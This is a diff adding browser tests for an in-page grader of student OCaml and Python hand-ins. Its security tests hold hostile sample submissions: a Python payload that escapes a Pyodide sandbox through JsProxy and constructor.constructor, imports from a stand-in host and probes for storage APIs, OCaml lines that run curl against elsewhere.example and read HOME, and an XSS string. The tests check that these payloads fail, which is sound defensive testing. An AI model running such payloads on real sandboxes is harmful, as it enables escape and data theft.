@@ -1,0 +1,364 @@
+"""Hand-ins checked on the page: as the command line does, whatever they do, and nothing leaves the browser."""
+
+from __future__ import annotations
+
+import csv
+import re
+import zipfile
+from collections.abc import Mapping
+from io import BytesIO, StringIO
+from pathlib import Path
+
+import pytest
+from grading.hand_ins import HAND_INS, Made
+from grading.reports import graded, graded_made
+from grading.test_hostile import GOOD_ML, GOOD_PY
+from playwright.sync_api import BrowserContext, Page, expect
+
+from rummifun.grading.classroom import Graded, spreadsheet_text
+from rummifun.grading.report.page import page as html_page
+from rummifun.messages import translation
+
+from ..browser.test_ecrans import faults
+from .conftest import Elsewhere, Host, controlled
+
+LONG = 300_000
+"""Milliseconds: the machine may be busy with other tests."""
+
+LEURRES = Path(__file__).parents[2] / "grading" / "hand_ins" / "leurres.ml"
+STORED = """async () => [
+  (await indexedDB.databases()).map(({ name }) => name).sort(),
+  (await caches.keys()).filter((name) => !name.startsWith("rummifun ")),
+  [...Array(localStorage.length).keys()].map((i) => localStorage.key(i)).sort(),
+]"""
+
+
+def entered(context: BrowserContext, host: Host, lang: str = "en") -> Page:
+    """Enter the room, once the page is kept by itself."""
+    context.add_init_script(f"localStorage.setItem('lang', '{lang}')")
+    page = context.new_page()
+    page.goto(f"{host.address}#/rendu")
+    page.wait_for_selector(".handin")
+    controlled(page)
+    return page
+
+
+def put(page: Page, files: Mapping[str, bytes]) -> None:
+    given = [{"name": name, "mimeType": "", "buffer": content} for name, content in files.items()]
+    page.set_input_files("input[type=file]", given)  # type: ignore[arg-type]
+
+
+def checked(page: Page, files: Mapping[str, bytes]) -> str:
+    """Put files in, have them checked, and give what the report says."""
+    put(page, files)
+    page.locator("button.main").click()
+    page.wait_for_selector(".report, .handin [role=alert]:not(:empty)", timeout=LONG)
+    assert page.locator(".handin [role=alert]").inner_text() == ""
+    page.evaluate("document.querySelectorAll('.report details').forEach((one) => (one.open = true))")
+    return page.locator(".report").inner_text()
+
+
+def saved(page: Page, said: str) -> str:
+    with page.expect_download() as coming:
+        page.get_by_role("button", name=re.compile(said, re.IGNORECASE)).click()
+    return Path(coming.value.path()).read_bytes().decode("utf-8-sig")
+
+
+def file_of(made: Made, name: str) -> tuple[str, bytes]:
+    """Give a hand-in as one file: those beside it in a zip with it."""
+    text = made.text if isinstance(made.text, bytes) else made.text.encode()
+    return (
+        (f"{name}.zip", packed({name: text, **{n: t.encode() for n, t in made.beside}}))
+        if made.beside
+        else (name, text)
+    )
+
+
+def packed(files: Mapping[str, bytes]) -> bytes:
+    zipped = BytesIO()
+    with zipfile.ZipFile(zipped, "w") as archive:
+        for name, content in files.items():
+            archive.writestr(name, content)
+    return zipped.getvalue()
+
+
+def fits(page: Page) -> bool:
+    """Tell whether nothing of a page is to be scrolled to sideways."""
+    return bool(page.evaluate("document.documentElement.scrollWidth <= innerWidth"))
+
+
+# What is right and wrong
+
+
+@pytest.mark.parametrize("lang", ["fr", "en"])
+def test_a_fault_is_shown_with_its_smallest_case(
+    context: BrowserContext, host: Host, elsewhere: Elsewhere, lang: str
+) -> None:
+    page = entered(context, host, lang)
+    assert faults(page) == []
+    expect(page.get_by_text({"fr": "ne quitte cette machine", "en": "leaves this machine"}[lang])).to_be_visible()
+    name = "faux_tour.ml"
+    told = checked(page, dict([file_of(HAND_INS[name], name)]))
+    assert {"fr": "le tour ne passe pas", "en": "the turn does not pass"}[lang] in told
+    assert "piocher (((J1, true, [])," in told
+    assert "(piocher_passe, §8.4.1)" in told
+    for width, scheme in ((1280, "light"), (360, "dark")):
+        page.set_viewport_size({"width": width, "height": 800})
+        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
+        assert faults(page) == []
+        assert fits(page)
+    report = saved(page, {"fr": "enregistrer le rapport", "en": "save the report"}[lang])
+    ran = re.compile(r'<p class="soft">(?:Exécuté|Run) [^<]*</p>\n?')
+    expected = html_page([Graded(name, graded(name))], translation(lang), lang)
+    assert ran.sub("", report) == ran.sub("", expected)
+    assert elsewhere.asked == []
+
+
+PYTHON = """
+def cardinal(ens):
+    return sum(n for _, n in ens)
+def nbocc(x, ens):
+    return sum(n for y, n in ens if x is y)
+def inclus(e, f):
+    return all(n <= nbocc(x, f) for x, n in e)
+def ajoute(xn, ens):
+    return [*ens, xn]
+"""
+FEW = ["faux_ordre.ml", "faux_multiplicites.ml", "casse.ml", "deux_fichiers.ml"]
+
+
+def marks(page: Page, ones: Mapping[str, Made], lang: str = "en") -> tuple[list[list[str]], list[list[str]]]:
+    """Have hand-ins marked by the page, and by the command line: rows of shares and points, without the remarks."""
+    files = dict(file_of(made, name) for name, made in ones.items())
+    checked(page, files)
+    native = [Graded(file, graded_made(made, name)) for (name, made), file in zip(ones.items(), files, strict=True)]
+    there, here = (
+        saved(page, "save the marks"),
+        spreadsheet_text(sorted(native, key=lambda one: one.name), translation(lang), lang),
+    )
+    return _rows(there), _rows(here.removeprefix("\ufeff"))
+
+
+def _rows(text: str) -> list[list[str]]:
+    return [row[:-1] for row in csv.reader(StringIO(text))]
+
+
+def test_marks_are_those_of_the_command_line_question_by_question(context: BrowserContext, host: Host) -> None:
+    page = entered(context, host)
+    there, here = marks(page, {**{name: HAND_INS[name] for name in FEW}, "rendu.py": Made(PYTHON)})
+    assert len(there) == 3 + len(FEW) + 1
+    assert there == here
+    page.set_viewport_size({"width": 360, "height": 800})
+    assert fits(page)
+    assert faults(page) == []
+
+
+@pytest.mark.lent
+def test_marks_of_all_hand_ins_are(context: BrowserContext, host: Host) -> None:
+    there, here = marks(entered(context, host), {**HAND_INS, "leurres.ml": Made(LEURRES.read_text("utf-8"))})
+    assert len(there) == 3 + 17
+    assert there == here
+
+
+def test_files_are_a_hand_in_each_or_one_together(context: BrowserContext, host: Host) -> None:
+    page = entered(context, host)
+    told = checked(
+        page, {"a.ml": GOOD_ML.encode(), "b.zip": packed({"x/b.ml": GOOD_ML.encode(), "y/c.ml": b"let x = 1"})}
+    )
+    assert page.locator(".report article > h2").all_inner_texts() == ["Hand-ins", "a.ml", "b.zip"]
+    assert "nbocc" in told
+    page.locator(".files li", has_text="b.zip").get_by_role("button").click()
+    put(page, {"d.ml": b"let cardinal ens = List.fold_left (fun n (_, m) -> n + m) 0 ens"})
+    page.get_by_label("all these files are one hand-in").check()
+    checked(page, {})
+    assert page.locator(".report article > h2").all_inner_texts() == ["a.ml, d.ml"]
+
+
+# What does not end
+
+
+def test_what_does_not_end_is_found_and_the_others_are_judged(context: BrowserContext, host: Host) -> None:
+    page = entered(context, host)
+    loops = {
+        "a.ml": f"let rec cardinal (ens : (int * int) list) : int = cardinal ens\n{GOOD_ML}",
+        "b.py": f"def cardinal(ens):\n    while True: pass\n{GOOD_PY}",
+        "c.py": f"def cardinal(ens):\n    return sum(range(10 ** 15))\n{GOOD_PY}",  # no clock of Python looks in there
+        "d.ml": GOOD_ML,
+    }
+    checked(page, {name: text.encode() for name, text in loops.items()})
+    for article in page.locator(".report article").all()[1:]:
+        name, told = article.locator("h2").inner_text(), article.inner_text()
+        assert ("it does not end in the time given" in told) == (name != "d.ml"), name
+        assert "nbocc" in told, name
+
+
+def test_a_check_is_stopped_and_what_was_put_in_stays(context: BrowserContext, host: Host) -> None:
+    page = entered(context, host)
+    put(page, {"a.py": b"sum(range(10 ** 15))"})
+    page.locator("button.main").click()
+    expect(page.locator(".state")).to_contain_text("a.py", timeout=LONG)
+    page.get_by_role("button", name="stop").click()
+    expect(page.locator(".state")).to_have_text("The check was stopped.")
+    assert page.locator("iframe").count() == 0
+    expect(page.locator(".files li")).to_contain_text("a.py")
+    page.locator("button.main").click()
+    expect(page.locator("iframe")).to_have_count(1)
+    page.goto(f"{host.address}#/")
+    page.wait_for_selector(".card")
+    assert page.locator("iframe").count() == 0
+
+
+# What means harm
+
+ATTACK_PY = """
+import sys
+reached = []
+for name in ("js", "pyodide_js"):
+    sys.modules.pop(name, None)
+    try:
+        __import__(name)
+        reached.append(name)
+    except ImportError:
+        pass
+proxies, frame = [], sys._getframe()
+while frame:
+    proxies += [one for one in [*frame.f_locals.values(), *frame.f_globals.values()] if type(one).__name__ == "JsProxy"]
+    frame = frame.f_back
+world = proxies[0].constructor.constructor("return globalThis")()
+for name in (
+    "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts", "indexedDB", "caches", "navigator",
+    "BroadcastChannel", "Worker", "postMessage", "localStorage", "document", "cookieStore", "location", "close",
+):
+    if proxies[0].constructor.constructor(f"return typeof {name} !== 'undefined'")():
+        reached.append(name)
+for address in ("http://elsewhere.example/told", "HOST/told", "HOST/VERSION/told"):
+    proxies[0].constructor.constructor("address", "import(address).catch(() => 0)")(address)
+raise RuntimeError("reached: " + (" ".join(reached) or "nothing"))
+"""
+
+
+def test_a_hostile_hand_in_in_python_reaches_neither_network_nor_storage(
+    context: BrowserContext, host: Host, elsewhere: Elsewhere
+) -> None:
+    asked: list[str] = []
+    page = entered(context, host)
+    context.on("request", lambda request: asked.append(request.url))
+    before = page.evaluate(STORED)
+    version = str(page.evaluate("document.querySelector('script[src*=main]').getAttribute('src')")).split("/")[1]
+    attack = ATTACK_PY.replace("HOST", host.address.rstrip("/")).replace("VERSION", version)
+    told = checked(page, {"a.py": f"{attack}\n{GOOD_PY}".encode(), "b.py": GOOD_PY.encode()})
+    assert "reached: nothing" in told
+    page.wait_for_timeout(1000)
+    assert [one for one in asked if "told" in one and version not in one] == []
+    assert [one for one in host.asked if "told" in one] == []
+    assert elsewhere.asked == []
+    assert page.evaluate(STORED) == before
+
+
+ATTACK_ML = """
+external js : string -> int = "caml_js_eval_string"
+
+let () = ignore (Sys.command "curl http://elsewhere.example/told")
+
+let () = ignore (open_in "http://elsewhere.example/told")
+
+let () = print_string (Unix.getenv "HOME")
+
+let x = Js_of_ocaml.Js.Unsafe.global
+
+#use "http://elsewhere.example/told"
+
+#load "unix.cma"
+
+"""
+
+
+def test_a_hostile_hand_in_in_ocaml_reaches_neither_network_nor_storage(
+    context: BrowserContext, host: Host, elsewhere: Elsewhere
+) -> None:
+    page = entered(context, host)
+    before = page.evaluate(STORED)
+    told = checked(page, {"a.ml": f"{ATTACK_ML}\n{GOOD_ML}".encode(), "b.ml": GOOD_ML.encode()})
+    assert "`external` calls what is not OCaml" in told
+    assert "nbocc" in told
+    page.wait_for_timeout(1000)
+    assert [one for one in host.asked if "told" in one] == []
+    assert elsewhere.asked == []
+    assert page.evaluate(STORED) == before
+
+
+def test_a_report_that_was_forged_brings_no_script(context: BrowserContext, host: Host) -> None:
+    page = entered(context, host)
+    forged = "<main><article onclick=alert(1)><script>document.title='x'</script><img src=x onerror=\"document.title='x'\"><a href=javascript:alert(1)>a</a></article></main>"
+    shown = page.evaluate(
+        "async (html) => { const from = document.querySelector('script[src*=main]').src;"
+        " const { shown } = await import(new URL('report.js', from).href); const made = shown(html);"
+        " document.body.append(made); return made.innerHTML; }",
+        forged,
+    )
+    assert not re.search("<(script|img)|onclick|javascript:", shown)
+
+
+# Where there is no network, or nothing to judge
+
+
+def test_without_a_network_all_of_it_works(context: BrowserContext, host: Host) -> None:
+    page = entered(context, host)
+    page.wait_for_function(
+        "async () => { for (const name of ['toplevel.js', 'laws.pack', 'ocaml.js', 'ticks.js']) {"
+        " const all = await Promise.all((await caches.keys()).map(async (key) => (await (await caches.open(key)).keys()).map(({ url }) => url)));"
+        " if (!all.flat().some((url) => url.endsWith('/' + name))) return false; } return true; }",
+        timeout=LONG,
+    )
+    host.cut()
+    page.reload()
+    page.wait_for_selector(".handin")
+    told = checked(
+        page,
+        {"a.ml": f"let rec cardinal ens = match ens with [] -> 0 | (_, n) :: r -> 1 + cardinal r\n{GOOD_ML}".encode()},
+    )
+    assert "cardinal [(" in told
+
+
+@pytest.mark.parametrize("lang", ["fr", "en"])
+def test_nonsense_gets_a_sentence(context: BrowserContext, host: Host, tmp_path: Path, lang: str) -> None:
+    page = entered(context, host, lang)
+    alert = page.locator(".handin [role=alert]")
+    for name, size, sentence in (
+        ("image.png", 10, {"fr": "image.png n’est pas un rendu", "en": "image.png is no hand-in"}),
+        ("vide.ml", 0, {"fr": "vide.ml est vide", "en": "vide.ml is empty"}),
+        ("gros.ml", 50 << 20, {"fr": "gros.ml est trop gros : 2 Mo", "en": "gros.ml is too large: 2 MB"}),
+        ("gros.zip", 50 << 20, {"fr": "gros.zip est trop gros : 20 Mo", "en": "gros.zip is too large: 20 MB"}),
+    ):
+        with (tmp_path / name).open("wb") as file:
+            file.truncate(size)
+        page.set_input_files("input[type=file]", tmp_path / name)
+        expect(alert).to_contain_text(sentence[lang])
+        expect(page.locator(".handin button.main")).to_be_disabled()
+    assert faults(page) == []
+    put(page, {"bruit.ml": bytes(range(256))})
+    page.locator("button.main").click()
+    page.wait_for_selector(".report, .handin [role=alert]:not(:empty)", timeout=LONG)
+    assert "bruit.ml" in page.locator(".handin").inner_text()
+
+
+def test_keys_are_enough(context: BrowserContext, host: Host) -> None:
+    page = entered(context, host)
+    page.get_by_role("button", name="choose files").focus()
+    with page.expect_file_chooser() as coming:
+        page.keyboard.press("Enter")
+    coming.value.set_files({"name": "a.py", "mimeType": "", "buffer": GOOD_PY.encode()})
+    expect(page.locator(".handin button.main")).to_be_focused()
+    page.keyboard.press("Enter")
+    page.wait_for_selector(".report", timeout=LONG)
+    expect(page.locator(".handin > section")).to_be_focused()
+
+
+def test_files_are_dropped(context: BrowserContext, host: Host) -> None:
+    page = entered(context, host)
+    page.evaluate(
+        "text => { const held = new DataTransfer(); held.items.add(new File([text], 'a.py'));"
+        " document.querySelector('.drop').dispatchEvent(new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer: held })); }",
+        GOOD_PY,
+    )
+    expect(page.locator(".files li")).to_contain_text("a.py")
